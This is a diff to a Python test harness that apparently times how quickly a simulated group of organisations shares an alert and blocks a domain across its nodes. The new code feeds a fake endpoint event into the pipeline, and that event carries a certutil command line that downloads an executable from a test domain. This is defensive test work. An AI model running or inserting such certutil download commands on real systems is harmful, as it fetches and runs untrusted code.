@@ -3,14 +3,16 @@
 import sqlite3
 import time
 from collections.abc import Callable, Iterable
+from collections.abc import Set as AbstractSet
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import suppress
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
 from datetime import UTC, datetime
 from typing import Final
 
 import httpx
 import msgspec
+from latency import Sender
 
 from sector import resolvers
 from sector.nodes import Node, Sector
@@ -19,6 +21,14 @@ PATIENCE: Final = 120.0
 FIRST_PATIENCE: Final = 400.0
 """All processes may still be starting."""
 _LOOK: Final = 0.05
+_ADDED: Final = """
+    SELECT max(object.added) FROM intel_indicatorvalue value
+    JOIN intel_object object ON object.id = value.indicator_id WHERE value.value = ?
+"""
+_FETCH: Final = {
+    "Image": r"C:\Windows\System32\certutil.exe",
+    "CommandLine": "certutil.exe -urlcache -split -f http://{name}/a.exe a.exe",
+}
 _WRITTEN_WITHIN: Final = 1.3
 """The server of lists writes down at most once a second who read."""
 
@@ -42,6 +52,10 @@ class Way:
     def seconds(self) -> float:
         """Until the last control answered so."""
         return max(self.answered_at.values()) - self.began_at
+
+    def only(self, codes: AbstractSet[str]) -> "Way":
+        """The same, of some organisations alone."""
+        return replace(self, answered_at={code: at for code, at in self.answered_at.items() if code in codes})
 
 
 class People:
@@ -118,6 +132,34 @@ def by_people(sector: Sector, people: People, name: str, *, within: float = PATI
     return {way: pressed(sector, press, watched[way]) for way, press in presses.items()}
 
 
+def by_policy(sector: Sector, people: People, sender: Sender, name: str, *, within: float = PATIENCE) -> dict[str, Way]:
+    """An attack that one organisation sees and shares, and that all others block by their policies; and its end.
+
+    An event comes to the first organisation's gateway and raises an alert. What is counted begins when its cyber lead
+    presses the button that shares the alert, and of its end, when they press the one that withdraws it.
+    """
+    every = controls(sector.organisations)
+    resolvers.until(every, name, blocked=False, within=within)
+    device = f"WS-{time.time_ns() % 10**9}"  # no part of the name, which would then not go: it would tell of a computer
+    sender.send(device, Image=_FETCH["Image"], CommandLine=_FETCH["CommandLine"].format(name=name))
+    alerts = wait_for(lambda: people("lead", "GET", "/alerts", params={"device": device})["items"], within=within)
+    share = f"/alerts/{alerts[0]['id']}/share"
+    (collection,) = (one["id"] for one in people("lead", "GET", share)["collections"])
+
+    def withdraw() -> None:
+        (shared,) = people("lead", "GET", f"{share}s")
+        people("lead", "POST", f"{share}s/{shared['id']}/withdraw")
+
+    presses = {
+        "policy": lambda: people("lead", "POST", share, json={"collection": collection, "level": "green"}),
+        "policy, withdrawn": withdraw,
+    }
+    return {
+        way: pressed(sector, press, Watched(name=name, ports=every, blocked=way == "policy", within=within))
+        for way, press in presses.items()
+    }
+
+
 @dataclass(frozen=True, slots=True, kw_only=True)
 class Watched:
     """What is waited for after a button.
@@ -141,7 +183,13 @@ def pressed(sector: Sector, press: Callable[[], object], watched: Watched) -> Wa
     began = time.time()
     with ThreadPoolExecutor(1) as pool:
         button = pool.submit(press)
-        answered = resolvers.until(watched.ports, watched.name, blocked=watched.blocked, within=watched.within)
+        answered = resolvers.until(
+            watched.ports,
+            watched.name,
+            blocked=watched.blocked,
+            within=watched.within,
+            given_up=lambda: button.done() and button.exception() is not None,
+        )
         button.result()
     time.sleep(_WRITTEN_WITHIN)
     steps = {node.code: recorded(node, watched.name) for node in sector.nodes.values()}
@@ -151,9 +199,14 @@ def pressed(sector: Sector, press: Callable[[], object], watched: Watched) -> Wa
 def recorded(node: Node, name: str) -> dict[str, float]:
     """When what was decided last about a name came to a node, as the node itself recorded it."""
     found: dict[str, float] = {}
-    rows = node.rows("SELECT changed_at FROM protect_block WHERE value = ? ORDER BY changed_at", name)
+    ((added,),) = node.rows(_ADDED, name)
+    if added:
+        found["shared"] = added / 1e6
+    rows = node.rows("SELECT changed_at, checked_at FROM protect_block WHERE value = ? ORDER BY changed_at", name)
     if rows:
         found["stored"] = _moment(rows[-1][0])
+        if rows[-1][1]:
+            found["checked"] = _moment(rows[-1][1])
     lists = node.home / "lists"
     with suppress(OSError, msgspec.MsgspecError, KeyError):
         journal = msgspec.json.decode((lists / "current.json").read_bytes())["journal"]
@@ -170,7 +223,10 @@ def _moment(text: str) -> float:
     return said.timestamp() if said.tzinfo else said.replace(tzinfo=UTC).timestamp()
 
 
-def ready(sector: Sector, people: People) -> None:
-    """Wait until every node does its work: a block comes to all and goes again."""
+def ready(sector: Sector, people: People, sender: Sender | None = None) -> None:
+    """Wait until every node does its work: a block comes to all and goes again, and so does what is shared."""
     wait_for(lambda: people("ada", "GET", "/blocks"), within=FIRST_PATIENCE)
     by_people(sector, people, f"ready{time.time_ns()}.example", within=FIRST_PATIENCE)
+    if sender is not None:
+        sender.until_ready()
+        by_policy(sector, people, sender, f"seen{time.time_ns()}.example", within=FIRST_PATIENCE)
